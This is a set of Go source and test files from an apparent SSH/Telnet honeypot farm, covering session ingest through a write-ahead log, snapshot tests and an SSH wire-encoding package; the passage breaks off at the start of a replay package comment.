			coord := startCoordinator(t, urls, client)
			waitFor(t, 15*time.Second, func() bool {
				return coord.Snapshot().Seq == uint64(len(recs))
			}, "merged snapshot to reach full sequence")
			if got := mustJSON(t, coord.Snapshot()); !bytes.Equal(got, want) {
				t.Errorf("workers=%d n=%d: merged snapshot differs from single-node (%d vs %d bytes)",
					workers, n, len(got), len(want))
			}
			if coord.Seq() != uint64(len(recs)) {
				t.Errorf("workers=%d n=%d: ingested seq %d, want %d", workers, n, coord.Seq(), len(recs))
			}
			coord.Stop()
			for _, s := range shards {
				s.kill()
			}
			client.CloseIdleConnections()
		}
	}
	waitGoroutines(t, base)
}

// TestCoordinatorEmptySnapshot: before any shard contact the merged
// snapshot is byte-identical to a freshly created engine's — readers
// of a cold merge node see the same empty tables a cold single node
// serves.
func TestCoordinatorEmptySnapshot(t *testing.T) {
	base := runtime.NumGoroutine()
	d := dataset(t, 1)
	coord := startCoordinator(t, []string{"http://127.0.0.1:1"}, &http.Client{Timeout: time.Second})
	got := mustJSON(t, coord.Snapshot())
	want := mustJSON(t, newEngine(d).Snapshot())
	if !bytes.Equal(got, want) {
		t.Errorf("empty merged snapshot differs from empty engine:\n%s\nvs\n%s", got, want)
	}
	coord.Stop()
	waitGoroutines(t, base)
}
