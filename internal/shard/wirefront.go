package shard

// The wire-ingest front of a collector shard: real-TCP SSH/Telnet
// listeners for the shard's pot partition, feeding the same
// WAL-then-engine path the synthetic feeder uses. This is what lets
// cmd/loadgen drive a live shard fleet over actual sockets — sessions
// arrive on the wire, the honeypot records them, and every record is
// appended durably before it is folded into the aggregates, so the
// engine sequence never runs ahead of what a restart can recover.
//
// One honeypot (and one SSH + one Telnet listener) is bound per owned
// pot. That is deliberate small-fleet topology: the load harness and
// the check.sh smoke gate run a handful of pots per shard; a
// production front would multiplex, but per-pot listeners keep the
// pot attribution exact with zero protocol additions.

import (
	"fmt"
	"net"
	"strings"
	"sync"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/metrics"
	"honeyfarm/internal/query"
	"honeyfarm/internal/wal"
)

// WireConfig parameterizes a WireFront.
type WireConfig struct {
	// Shards and Index select the pot partition (HoneypotID % Shards ==
	// Index) out of NumPots fleet-wide pots. Shards must be ≥ 1.
	Shards, Index, NumPots int
	// Host is the listen host (default "127.0.0.1"); every listener
	// binds port 0.
	Host string
	// Engine receives every accepted record. Required.
	Engine *query.Engine
	// WAL, when non-nil, is appended to before the engine ingests: a
	// record that cannot be persisted is counted as refused and never
	// reaches the aggregates.
	WAL *wal.Log
	// Fetch resolves attacker download URIs; nil blocks egress.
	Fetch func(uri string) ([]byte, error)
}

// WirePot is one bound pot of the front.
type WirePot struct {
	ID         int
	SSHAddr    string
	TelnetAddr string
}

// WireFront is a running wire-ingest front. Create with NewWireFront,
// stop with Close.
type WireFront struct {
	cfg  WireConfig
	pots []WirePot

	accepted metrics.Counter
	refused  metrics.Counter
	byPot    map[int]*metrics.Counter
	open     metrics.Gauge

	sinkMu sync.Mutex // serializes WAL append + engine ingest (acceptance order)

	mu        sync.Mutex
	listeners []net.Listener
	conns     map[net.Conn]struct{}
	closed    bool

	wg sync.WaitGroup // accept loops and session handlers
}

// NewWireFront binds the partition's listeners and starts accepting.
func NewWireFront(cfg WireConfig) (*WireFront, error) {
	if cfg.Engine == nil {
		return nil, fmt.Errorf("shard: WireConfig.Engine is required")
	}
	if cfg.Shards < 1 || cfg.Index < 0 || cfg.Index >= cfg.Shards {
		return nil, fmt.Errorf("shard: invalid wire partition %d/%d", cfg.Index, cfg.Shards)
	}
	if cfg.Host == "" {
		cfg.Host = "127.0.0.1"
	}
	w := &WireFront{
		cfg:   cfg,
		byPot: make(map[int]*metrics.Counter),
		conns: make(map[net.Conn]struct{}),
	}
	for id := 0; id < cfg.NumPots; id++ {
		if id%cfg.Shards != cfg.Index {
			continue
		}
		pot, err := honeypot.New(honeypot.Config{
			ID:    id,
			Fetch: cfg.Fetch,
			Sink:  w.sink(id),
		})
		if err != nil {
			w.Close()
			return nil, fmt.Errorf("shard: wire pot %d: %w", id, err)
		}
		sshLn, err := w.listen()
		if err != nil {
			w.Close()
			return nil, fmt.Errorf("shard: wire pot %d ssh: %w", id, err)
		}
		telnetLn, err := w.listen()
		if err != nil {
			w.Close()
			return nil, fmt.Errorf("shard: wire pot %d telnet: %w", id, err)
		}
		w.byPot[id] = &metrics.Counter{}
		w.pots = append(w.pots, WirePot{
			ID:         id,
			SSHAddr:    sshLn.Addr().String(),
			TelnetAddr: telnetLn.Addr().String(),
		})
		w.serve(sshLn, pot.ServeSSH)
		w.serve(telnetLn, pot.ServeTelnet)
	}
	return w, nil
}

// listen binds one port-0 TCP listener and records it for Close.
func (w *WireFront) listen() (net.Listener, error) {
	ln, err := net.Listen("tcp", net.JoinHostPort(w.cfg.Host, "0"))
	if err != nil {
		return nil, err
	}
	w.mu.Lock()
	w.listeners = append(w.listeners, ln)
	w.mu.Unlock()
	return ln, nil
}

// serve runs one accept loop; each connection is tracked so Close can
// force-drain.
func (w *WireFront) serve(ln net.Listener, handle func(net.Conn)) {
	w.wg.Add(1)
	go func() {
		defer w.wg.Done()
		//lint:ignore bounded-loop accept loop; exits when Close closes the listener
		for {
			c, err := ln.Accept()
			if err != nil {
				return // listener closed
			}
			w.mu.Lock()
			if w.closed {
				w.mu.Unlock()
				c.Close()
				continue
			}
			w.conns[c] = struct{}{}
			w.mu.Unlock()
			w.open.Add(1)
			w.wg.Add(1)
			go func() {
				defer w.wg.Done()
				handle(c)
				w.open.Add(-1)
				w.mu.Lock()
				delete(w.conns, c)
				w.mu.Unlock()
			}()
		}
	}()
}

// sink returns pot id's record sink: append durably (when a WAL is
// configured), then ingest — serialized, so WAL order, engine order,
// and acceptance order coincide.
func (w *WireFront) sink(id int) func(*honeypot.SessionRecord) {
	return func(rec *honeypot.SessionRecord) {
		batch := []*honeypot.SessionRecord{rec}
		w.sinkMu.Lock()
		defer w.sinkMu.Unlock()
		if w.cfg.WAL != nil {
			//lint:ignore lock-across-blocking the append-before-ingest order under one lock IS the acceptance-order invariant; hold time is bounded by the WAL's group-commit latency
			if err := w.cfg.WAL.Append(batch); err != nil {
				w.refused.Inc()
				return
			}
		}
		w.cfg.Engine.Ingest(batch)
		w.accepted.Inc()
		w.byPot[id].Inc()
	}
}

// Pots returns the bound pots in ID order.
func (w *WireFront) Pots() []WirePot { return append([]WirePot(nil), w.pots...) }

// Accepted returns the count of records persisted and ingested.
func (w *WireFront) Accepted() uint64 { return w.accepted.Value() }

// Refused returns the count of records dropped because the WAL
// refused the append (degraded writer).
func (w *WireFront) Refused() uint64 { return w.refused.Value() }

// OpenConns returns the live wire connection count.
func (w *WireFront) OpenConns() float64 { return w.open.Value() }

// WriteAddrFile atomically writes the pot address table — one
// "<pot> <ssh-addr> <telnet-addr>" line per owned pot — for
// cmd/loadgen's -targets flag.
func (w *WireFront) WriteAddrFile(path string) error {
	var b strings.Builder
	for _, p := range w.pots {
		fmt.Fprintf(&b, "%d %s %s\n", p.ID, p.SSHAddr, p.TelnetAddr)
	}
	return atomicio.WriteFileBytes(path, []byte(b.String()))
}

// RegisterWireMetrics exports the front's session accounting.
func RegisterWireMetrics(reg *metrics.Registry, w *WireFront) {
	reg.CounterFunc("honeyfarm_wire_sessions_accepted_total",
		"Wire sessions whose records were persisted and ingested.",
		nil, func() float64 { return float64(w.Accepted()) })
	reg.CounterFunc("honeyfarm_wire_sessions_refused_total",
		"Wire sessions dropped because the WAL refused the append.",
		nil, func() float64 { return float64(w.Refused()) })
	reg.GaugeFunc("honeyfarm_wire_open_conns",
		"Live wire connections.",
		nil, func() float64 { return w.OpenConns() })
	for _, p := range w.pots {
		ctr := w.byPot[p.ID]
		reg.CounterFunc("honeyfarm_wire_pot_sessions_total",
			"Wire sessions accepted per pot.",
			metrics.Labels{"pot": fmt.Sprint(p.ID)},
			func() float64 { return float64(ctr.Value()) })
	}
}

// Close stops the listeners, force-closes live connections, and waits
// for every accept loop and session handler to finish.
func (w *WireFront) Close() error {
	w.mu.Lock()
	w.closed = true
	lns := w.listeners
	w.listeners = nil
	conns := make([]net.Conn, 0, len(w.conns))
	for c := range w.conns {
		conns = append(conns, c)
	}
	w.mu.Unlock()
	var firstErr error
	for _, ln := range lns {
		if err := ln.Close(); err != nil && firstErr == nil {
			firstErr = err
		}
	}
	for _, c := range conns {
		c.Close() // session handlers unblock and record the abort
	}
	w.wg.Wait()
	return firstErr
}
