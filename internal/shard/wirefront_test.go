package shard_test

import (
	"io"
	"net"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
	"honeyfarm/internal/wal"
)

// newWireFront builds a front over a fresh engine (and optional WAL
// dir) for a 2-shard/4-pot fleet, index 0 — it owns pots 0 and 2.
func newWireFront(t *testing.T, walDir string) (*shard.WireFront, *query.Engine, *wal.Log) {
	t.Helper()
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: 4})
	var wlog *wal.Log
	if walDir != "" {
		var err error
		wlog, _, err = wal.Open(walDir, wal.Options{Epoch: honeyfarm.DefaultEpoch})
		if err != nil {
			t.Fatal(err)
		}
	}
	w, err := shard.NewWireFront(shard.WireConfig{
		Shards: 2, Index: 0, NumPots: 4,
		Engine: eng,
		WAL:    wlog,
	})
	if err != nil {
		t.Fatal(err)
	}
	return w, eng, wlog
}

func TestWireFrontSessions(t *testing.T) {
	base := runtime.NumGoroutine()
	w, eng, wlog := newWireFront(t, t.TempDir())

	pots := w.Pots()
	if len(pots) != 2 || pots[0].ID != 0 || pots[1].ID != 2 {
		t.Fatalf("expected pots [0 2], got %+v", pots)
	}

	// SSH session with a shell command against pot 0.
	nc, err := net.Dial("tcp", pots[0].SSHAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "wire-test"})
	if err != nil {
		t.Fatal(err)
	}
	sess, err := cc.OpenSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := sshwire.RequestShell(sess); err != nil {
		t.Fatal(err)
	}
	if _, err := sess.Write([]byte("uname -a\nexit\n")); err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(io.Discard, sess); err != nil && !sshwire.IsGracefulDisconnect(err) {
		t.Fatal(err)
	}
	cc.Close()
	nc.Close()

	// Telnet login against pot 2.
	nc2, err := net.Dial("tcp", pots[1].TelnetAddr)
	if err != nil {
		t.Fatal(err)
	}
	tc := telnet.NewConn(nc2, false)
	ok, err := telnet.ClientLogin(tc, "root", "wire-test")
	if err != nil {
		t.Fatal(err)
	}
	if !ok {
		t.Fatal("telnet login rejected")
	}
	if err := tc.WriteString("exit\r\n"); err != nil {
		t.Fatal(err)
	}
	nc2.Close()

	waitFor(t, 5*time.Second, func() bool { return w.Accepted() == 2 }, "2 accepted wire sessions")
	if w.Refused() != 0 {
		t.Fatalf("refused = %d, want 0", w.Refused())
	}
	if eng.Seq() != 2 {
		t.Fatalf("engine seq = %d, want 2", eng.Seq())
	}
	// Every accepted record was appended before it was ingested.
	if h := wlog.Health(); h.AppendedRecords != 2 {
		t.Fatalf("wal appended %d records, want 2", h.AppendedRecords)
	}

	// The wire rows show up in a collector registry, attributed per pot.
	srv := query.NewServer(query.ServerConfig{Source: eng})
	reg := shard.BuildCollectorRegistry(eng, wlog.Health, w, srv, 4)
	out := string(reg.Render())
	for _, want := range []string{
		`honeyfarm_wire_sessions_accepted_total 2`,
		`honeyfarm_wire_sessions_refused_total 0`,
		`honeyfarm_wire_pot_sessions_total{pot="0"} 1`,
		`honeyfarm_wire_pot_sessions_total{pot="2"} 1`,
		`honeyfarm_wal_append_records_total 2`,
		`honeyfarm_ingested_records_total 2`,
	} {
		if !strings.Contains(out, want+"\n") {
			t.Errorf("render missing %q", want)
		}
	}

	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := wlog.Close(); err != nil {
		t.Fatal(err)
	}
	waitGoroutines(t, base)
}

func TestWireFrontAddrFile(t *testing.T) {
	w, _, _ := newWireFront(t, "")
	defer w.Close()
	path := t.TempDir() + "/addrs"
	if err := w.WriteAddrFile(path); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	if len(lines) != 2 {
		t.Fatalf("expected 2 addr lines, got %q", lines)
	}
	for _, ln := range lines {
		f := strings.Fields(ln)
		if len(f) != 3 {
			t.Fatalf("malformed addr line %q", ln)
		}
		for _, addr := range f[1:] {
			if _, _, err := net.SplitHostPort(addr); err != nil {
				t.Fatalf("bad addr %q: %v", addr, err)
			}
		}
	}
}

func TestWireFrontNoCredProbe(t *testing.T) {
	w, eng, _ := newWireFront(t, "")
	defer w.Close()
	pots := w.Pots()

	// A handshake-only probe (connect, version exchange, disconnect)
	// still yields a NO_CRED record.
	nc, err := net.Dial("tcp", pots[0].SSHAddr)
	if err != nil {
		t.Fatal(err)
	}
	cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true})
	if err != nil {
		t.Fatal(err)
	}
	cc.Close()
	nc.Close()

	waitFor(t, 5*time.Second, func() bool { return w.Accepted() == 1 }, "probe recorded")
	if eng.Seq() != 1 {
		t.Fatalf("engine seq = %d, want 1", eng.Seq())
	}
}
