// Package wire implements the primitive binary encodings used by the SSH-2
// protocol family (RFC 4251 §5): byte, boolean, uint32, uint64, string,
// mpint, and name-list. Both the honeypot's SSH server and the simulated
// attackers' SSH client marshal their messages through this package.
//
// All readers operate on a *Reader which tracks a position into a single
// buffer; all writers append to a *Builder. Neither allocates per field
// beyond what the caller's data requires.
package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math/big"
	"strings"
)

// Errors returned by Reader methods.
var (
	// ErrShortBuffer indicates a field extends beyond the end of the buffer.
	ErrShortBuffer = errors.New("wire: short buffer")
	// ErrStringTooLong indicates a declared string length exceeds the sanity cap.
	ErrStringTooLong = errors.New("wire: string length exceeds limit")
)

// MaxStringLen is the default cap on individual string fields. SSH
// packets are bounded at 35000 bytes by RFC 4253 §6.1, so no legitimate
// SSH field can exceed this. The cap is per-Reader (SetMaxStringLen):
// the WAL's binary batch codec reuses this package for payloads that
// legitimately run far past the SSH bound.
const MaxStringLen = 1 << 20

// Builder accumulates an SSH wire-format message. The zero value is ready
// to use.
type Builder struct {
	buf []byte
}

// NewBuilder returns a Builder with capacity preallocated for n bytes.
func NewBuilder(n int) *Builder {
	return &Builder{buf: make([]byte, 0, n)}
}

// NewBuilderFrom returns a Builder that appends to buf, reusing its
// capacity (pass buf[:0] to overwrite). The buffer is surrendered to
// the Builder until retrieved with Bytes.
func NewBuilderFrom(buf []byte) *Builder {
	return &Builder{buf: buf}
}

// Bytes returns the accumulated message. The returned slice aliases the
// builder's internal buffer.
func (b *Builder) Bytes() []byte { return b.buf }

// Len returns the number of bytes accumulated so far.
func (b *Builder) Len() int { return len(b.buf) }

// Reset truncates the builder to empty, retaining capacity.
func (b *Builder) Reset() { b.buf = b.buf[:0] }

// Byte appends a single byte.
func (b *Builder) Byte(v byte) *Builder {
	b.buf = append(b.buf, v)
	return b
}

// Bool appends a boolean encoded as 0 or 1.
func (b *Builder) Bool(v bool) *Builder {
	if v {
		return b.Byte(1)
	}
	return b.Byte(0)
}

// Uint32 appends a big-endian uint32.
func (b *Builder) Uint32(v uint32) *Builder {
	b.buf = binary.BigEndian.AppendUint32(b.buf, v)
	return b
}

// Uint64 appends a big-endian uint64.
func (b *Builder) Uint64(v uint64) *Builder {
	b.buf = binary.BigEndian.AppendUint64(b.buf, v)
	return b
}

// String appends a length-prefixed byte string.
func (b *Builder) String(v []byte) *Builder {
	b.Uint32(uint32(len(v)))
	b.buf = append(b.buf, v...)
	return b
}

// Text appends a length-prefixed UTF-8 string.
func (b *Builder) Text(v string) *Builder {
	b.Uint32(uint32(len(v)))
	b.buf = append(b.buf, v...)
	return b
}

// Raw appends bytes verbatim with no length prefix.
func (b *Builder) Raw(v []byte) *Builder {
	b.buf = append(b.buf, v...)
	return b
}

// NameList appends a comma-separated name-list (RFC 4251 §5).
func (b *Builder) NameList(names []string) *Builder {
	return b.Text(strings.Join(names, ","))
}

// MPInt appends a multiple-precision integer in SSH mpint format:
// two's complement, big-endian, minimal length, with a leading zero byte
// added when the high bit of the first byte is set.
func (b *Builder) MPInt(v *big.Int) *Builder {
	if v.Sign() == 0 {
		return b.Uint32(0)
	}
	if v.Sign() < 0 {
		// Negative mpints never occur in the subset of SSH we implement;
		// encode magnitude defensively rather than panic.
		v = new(big.Int).Abs(v)
	}
	bytes := v.Bytes()
	if bytes[0]&0x80 != 0 {
		b.Uint32(uint32(len(bytes) + 1))
		b.Byte(0)
		b.buf = append(b.buf, bytes...)
		return b
	}
	b.Uint32(uint32(len(bytes)))
	b.buf = append(b.buf, bytes...)
	return b
}

// MPIntBytes appends a byte slice as an mpint, used for fixed-width values
// such as curve25519 shared secrets (RFC 8731 §3: encoded as mpint after
// stripping leading zeros).
func (b *Builder) MPIntBytes(v []byte) *Builder {
	i := 0
	for i < len(v) && v[i] == 0 {
		i++
	}
	return b.MPInt(new(big.Int).SetBytes(v[i:]))
}

// Reader decodes SSH wire-format fields from a buffer.
type Reader struct {
	buf    []byte
	pos    int
	err    error
	maxStr uint32
}

// NewReader returns a Reader over buf. The Reader does not copy buf.
// String fields are capped at MaxStringLen; callers decoding formats
// with a different bound adjust it with SetMaxStringLen.
func NewReader(buf []byte) *Reader { return &Reader{buf: buf, maxStr: MaxStringLen} }

// SetMaxStringLen replaces this Reader's string-length sanity cap. The
// cap only rejects declared lengths (the buffer bound is always
// enforced separately), so raising it never admits reads past the
// buffer; n <= 0 leaves only the buffer bound.
func (r *Reader) SetMaxStringLen(n int) {
	if n <= 0 || n > len(r.buf) {
		n = len(r.buf)
	}
	r.maxStr = uint32(n)
}

// Err returns the first decoding error encountered, or nil.
func (r *Reader) Err() error { return r.err }

// SetErrf records a decoding error, unless one is already recorded
// (the first error is sticky, exactly as for field reads). Composite
// decoders use it to fail the whole read when a structurally valid
// field carries an invalid value — a bad version byte, an implausible
// count — so their callers keep the single Err() check.
func (r *Reader) SetErrf(format string, args ...any) {
	r.fail(fmt.Errorf(format, args...))
}

// Remaining returns the number of unread bytes.
func (r *Reader) Remaining() int { return len(r.buf) - r.pos }

// Rest returns all unread bytes without consuming them.
func (r *Reader) Rest() []byte { return r.buf[r.pos:] }

func (r *Reader) fail(err error) {
	if r.err == nil {
		r.err = err
	}
}

// Byte reads one byte. On underflow it records ErrShortBuffer and returns 0.
func (r *Reader) Byte() byte {
	if r.err != nil {
		return 0
	}
	if r.pos >= len(r.buf) {
		r.fail(ErrShortBuffer)
		return 0
	}
	v := r.buf[r.pos]
	r.pos++
	return v
}

// Bool reads a boolean (any nonzero byte is true).
func (r *Reader) Bool() bool { return r.Byte() != 0 }

// Uint32 reads a big-endian uint32.
func (r *Reader) Uint32() uint32 {
	if r.err != nil {
		return 0
	}
	if r.pos+4 > len(r.buf) {
		r.fail(ErrShortBuffer)
		return 0
	}
	v := binary.BigEndian.Uint32(r.buf[r.pos:])
	r.pos += 4
	return v
}

// Uint64 reads a big-endian uint64.
func (r *Reader) Uint64() uint64 {
	if r.err != nil {
		return 0
	}
	if r.pos+8 > len(r.buf) {
		r.fail(ErrShortBuffer)
		return 0
	}
	v := binary.BigEndian.Uint64(r.buf[r.pos:])
	r.pos += 8
	return v
}

// String reads a length-prefixed byte string. The returned slice aliases
// the reader's buffer.
func (r *Reader) String() []byte {
	n := r.Uint32()
	if r.err != nil {
		return nil
	}
	if n > r.maxStr {
		r.fail(fmt.Errorf("%w: %d", ErrStringTooLong, n))
		return nil
	}
	if r.pos+int(n) > len(r.buf) {
		r.fail(ErrShortBuffer)
		return nil
	}
	v := r.buf[r.pos : r.pos+int(n)]
	r.pos += int(n)
	return v
}

// Text reads a length-prefixed string as a Go string (copies).
func (r *Reader) Text() string { return string(r.String()) }

// NameList reads a name-list into its component names. An empty list
// yields a nil slice.
func (r *Reader) NameList() []string {
	s := r.Text()
	if r.err != nil || s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

// MPInt reads a multiple-precision integer.
func (r *Reader) MPInt() *big.Int {
	v := r.String()
	if r.err != nil {
		return new(big.Int)
	}
	return new(big.Int).SetBytes(v)
}

// Bytes reads exactly n raw bytes. The returned slice aliases the buffer.
func (r *Reader) Bytes(n int) []byte {
	if r.err != nil {
		return nil
	}
	if n < 0 || r.pos+n > len(r.buf) {
		r.fail(ErrShortBuffer)
		return nil
	}
	v := r.buf[r.pos : r.pos+n]
	r.pos += n
	return v
}
