package wire

import (
	"bytes"
	"math/big"
	"testing"
	"testing/quick"
)

func TestBuilderReaderRoundTrip(t *testing.T) {
	b := NewBuilder(64)
	b.Byte(0x15).Bool(true).Bool(false).Uint32(0xdeadbeef).Uint64(1 << 40)
	b.String([]byte("hello")).Text("world")
	b.NameList([]string{"curve25519-sha256", "ext-info-s"})

	r := NewReader(b.Bytes())
	if got := r.Byte(); got != 0x15 {
		t.Errorf("Byte = %#x, want 0x15", got)
	}
	if !r.Bool() || r.Bool() {
		t.Error("Bool round-trip failed")
	}
	if got := r.Uint32(); got != 0xdeadbeef {
		t.Errorf("Uint32 = %#x", got)
	}
	if got := r.Uint64(); got != 1<<40 {
		t.Errorf("Uint64 = %d", got)
	}
	if got := r.String(); !bytes.Equal(got, []byte("hello")) {
		t.Errorf("String = %q", got)
	}
	if got := r.Text(); got != "world" {
		t.Errorf("Text = %q", got)
	}
	names := r.NameList()
	if len(names) != 2 || names[0] != "curve25519-sha256" || names[1] != "ext-info-s" {
		t.Errorf("NameList = %v", names)
	}
	if err := r.Err(); err != nil {
		t.Fatalf("Err = %v", err)
	}
	if r.Remaining() != 0 {
		t.Errorf("Remaining = %d, want 0", r.Remaining())
	}
}

func TestMPIntEncoding(t *testing.T) {
	cases := []struct {
		in   *big.Int
		want []byte
	}{
		// Examples from RFC 4251 §5.
		{big.NewInt(0), []byte{0, 0, 0, 0}},
		{mustHex(t, "9a378f9b2e332a7"), []byte{0, 0, 0, 8, 0x09, 0xa3, 0x78, 0xf9, 0xb2, 0xe3, 0x32, 0xa7}},
		{big.NewInt(0x80), []byte{0, 0, 0, 2, 0x00, 0x80}},
	}
	for _, c := range cases {
		b := new(Builder)
		b.MPInt(c.in)
		if !bytes.Equal(b.Bytes(), c.want) {
			t.Errorf("MPInt(%v) = %x, want %x", c.in, b.Bytes(), c.want)
		}
		r := NewReader(b.Bytes())
		got := r.MPInt()
		if r.Err() != nil || got.Cmp(c.in) != 0 {
			t.Errorf("MPInt round-trip of %v = %v (err %v)", c.in, got, r.Err())
		}
	}
}

func mustHex(t *testing.T, s string) *big.Int {
	t.Helper()
	v, ok := new(big.Int).SetString(s, 16)
	if !ok {
		t.Fatalf("bad hex %q", s)
	}
	return v
}

func TestMPIntBytesStripsLeadingZeros(t *testing.T) {
	b := new(Builder)
	b.MPIntBytes([]byte{0, 0, 0x7f, 0x01})
	want := []byte{0, 0, 0, 2, 0x7f, 0x01}
	if !bytes.Equal(b.Bytes(), want) {
		t.Errorf("MPIntBytes = %x, want %x", b.Bytes(), want)
	}
}

func TestReaderShortBuffer(t *testing.T) {
	r := NewReader([]byte{0, 0, 0, 9, 'a'})
	if got := r.String(); got != nil {
		t.Errorf("String on short buffer = %q, want nil", got)
	}
	if r.Err() == nil {
		t.Fatal("expected error on short buffer")
	}
	// Subsequent reads stay failed and return zero values.
	if r.Uint32() != 0 || r.Byte() != 0 {
		t.Error("reads after error should return zero values")
	}
}

func TestReaderStringTooLong(t *testing.T) {
	b := new(Builder)
	b.Uint32(MaxStringLen + 1)
	r := NewReader(b.Bytes())
	r.String()
	if r.Err() == nil {
		t.Fatal("expected length-limit error")
	}
}

// TestSetMaxStringLen: the string cap is per-Reader. The SSH default
// stays MaxStringLen, but a caller decoding a format with larger fields
// (the WAL's v2 batch codec) can lift it — and the lifted cap still
// never admits a read past the buffer.
func TestSetMaxStringLen(t *testing.T) {
	big := make([]byte, MaxStringLen+3)
	for i := range big {
		big[i] = byte(i)
	}
	b := new(Builder)
	b.String(big)

	// Default cap refuses the field even though the bytes are all there.
	r := NewReader(b.Bytes())
	if r.String() != nil || r.Err() == nil {
		t.Fatal("default cap admitted a string over MaxStringLen")
	}

	// A lifted per-Reader cap reads it back intact.
	r = NewReader(b.Bytes())
	r.SetMaxStringLen(len(b.Bytes()))
	got := r.String()
	if r.Err() != nil {
		t.Fatalf("lifted cap failed: %v", r.Err())
	}
	if len(got) != len(big) || got[0] != 0 || got[len(got)-1] != big[len(big)-1] {
		t.Fatalf("read %d bytes, want %d", len(got), len(big))
	}

	// Lifting the cap cannot outrun the buffer: a declared length past
	// the end is still a short-buffer error, never a large allocation.
	tr := NewReader(b.Bytes()[:10])
	tr.SetMaxStringLen(1 << 30)
	if tr.String() != nil || tr.Err() == nil {
		t.Fatal("lifted cap admitted a truncated string")
	}

	// A lowered cap tightens the default.
	r = NewReader(b.Bytes())
	r.SetMaxStringLen(16)
	if r.String() != nil || r.Err() == nil {
		t.Fatal("lowered cap admitted an oversized string")
	}
}

func TestReaderBytesNegative(t *testing.T) {
	r := NewReader([]byte{1, 2, 3})
	if got := r.Bytes(-1); got != nil {
		t.Errorf("Bytes(-1) = %v, want nil", got)
	}
	if r.Err() == nil {
		t.Fatal("expected error for negative length")
	}
}

func TestEmptyNameList(t *testing.T) {
	b := new(Builder)
	b.NameList(nil)
	r := NewReader(b.Bytes())
	if got := r.NameList(); got != nil {
		t.Errorf("empty NameList = %v, want nil", got)
	}
	if r.Err() != nil {
		t.Fatal(r.Err())
	}
}

// Property: any sequence of (string, uint32, uint64, bool) fields round-trips.
func TestQuickFieldRoundTrip(t *testing.T) {
	f := func(s []byte, u32 uint32, u64 uint64, flag bool, names []string) bool {
		// name-list members must not contain commas or be empty.
		clean := names[:0]
		for _, n := range names {
			ok := n != ""
			for i := 0; i < len(n); i++ {
				if n[i] == ',' || n[i] == 0 {
					ok = false
					break
				}
			}
			if ok {
				clean = append(clean, n)
			}
		}
		b := new(Builder)
		b.String(s).Uint32(u32).Uint64(u64).Bool(flag).NameList(clean)
		r := NewReader(b.Bytes())
		gs := r.String()
		gu32 := r.Uint32()
		gu64 := r.Uint64()
		gflag := r.Bool()
		gnames := r.NameList()
		if r.Err() != nil || r.Remaining() != 0 {
			return false
		}
		if !bytes.Equal(gs, s) && !(len(gs) == 0 && len(s) == 0) {
			return false
		}
		if gu32 != u32 || gu64 != u64 || gflag != flag {
			return false
		}
		if len(gnames) != len(clean) {
			return len(clean) == 0 && gnames == nil
		}
		for i := range clean {
			if gnames[i] != clean[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: MPInt round-trips for arbitrary non-negative integers.
func TestQuickMPIntRoundTrip(t *testing.T) {
	f := func(raw []byte) bool {
		v := new(big.Int).SetBytes(raw)
		b := new(Builder)
		b.MPInt(v)
		r := NewReader(b.Bytes())
		got := r.MPInt()
		return r.Err() == nil && got.Cmp(v) == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkBuilderString(b *testing.B) {
	payload := bytes.Repeat([]byte("x"), 256)
	bld := NewBuilder(4096)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		bld.Reset()
		for j := 0; j < 8; j++ {
			bld.String(payload)
		}
	}
}

func BenchmarkReaderString(b *testing.B) {
	bld := NewBuilder(4096)
	payload := bytes.Repeat([]byte("x"), 256)
	for j := 0; j < 8; j++ {
		bld.String(payload)
	}
	buf := bld.Bytes()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r := NewReader(buf)
		for j := 0; j < 8; j++ {
			r.String()
		}
		if r.Err() != nil {
			b.Fatal(r.Err())
		}
	}
}

func TestBuilderUtilities(t *testing.T) {
	b := NewBuilder(16)
	b.Raw([]byte{1, 2, 3})
	if b.Len() != 3 {
		t.Errorf("Len = %d", b.Len())
	}
	b.Reset()
	if b.Len() != 0 {
		t.Errorf("Len after Reset = %d", b.Len())
	}
}

func TestReaderUtilitiesAndErrorPaths(t *testing.T) {
	r := NewReader([]byte{0xaa, 0xbb, 0xcc})
	if r.Byte() != 0xaa {
		t.Error("Byte wrong")
	}
	if got := r.Rest(); len(got) != 2 || got[0] != 0xbb {
		t.Errorf("Rest = %v", got)
	}
	// Underflows set the error and all further reads return zero values.
	if r.Uint64() != 0 || r.Err() == nil {
		t.Error("Uint64 underflow should error")
	}
	if r.Uint32() != 0 || r.Byte() != 0 || r.Bool() {
		t.Error("reads after error must be zero")
	}
	if r.MPInt().Sign() != 0 {
		t.Error("MPInt after error must be zero")
	}
	if r.Bytes(1) != nil || r.String() != nil || r.NameList() != nil {
		t.Error("slice reads after error must be nil")
	}
}

func TestNegativeMPIntEncodesMagnitude(t *testing.T) {
	b := new(Builder)
	b.MPInt(big.NewInt(-5))
	r := NewReader(b.Bytes())
	if got := r.MPInt(); got.Cmp(big.NewInt(5)) != 0 || r.Err() != nil {
		t.Errorf("negative mpint = %v err=%v", got, r.Err())
	}
}
