// Package replay bridges the two execution paths of the reproduction:
// it takes session records from the record-level generator and replays
// them as real SSH/Telnet sessions against a wire-level honeyfarm, so
// the statistical dataset and the protocol implementation can be checked
// against each other. A replayed NO_CRED record produces a handshake-
// only connection; a FAIL_LOG record replays its failed credential list;
// CMD/CMD+URI records log in and type their recorded command lines into
